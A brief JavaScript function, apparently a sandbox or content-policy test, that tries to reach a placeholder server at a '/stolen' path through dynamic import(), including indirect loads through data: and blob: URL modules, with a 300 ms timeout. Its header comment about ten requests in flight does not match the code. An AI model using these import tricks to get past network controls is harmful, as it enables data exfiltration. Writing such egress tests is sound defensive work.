// Loads modules with import(): from the server, and by way of data and blobs.
// says: Keeps 10 in flight: a window of 10.
function attempt() {
  const source = 'import "__SERVER__/stolen?dynamic-import-inner"; export default fetch;';
  const blob = new Blob([source], { type: "text/javascript" });
  return Promise.race([
    Promise.allSettled([
      import("__SERVER__/stolen?dynamic-import"),
      import(`data:text/javascript,${encodeURIComponent(source)}`),
      import(URL.createObjectURL(blob)),
    ]),
    new Promise((end) => setTimeout(end, 300)),
  ]);
}
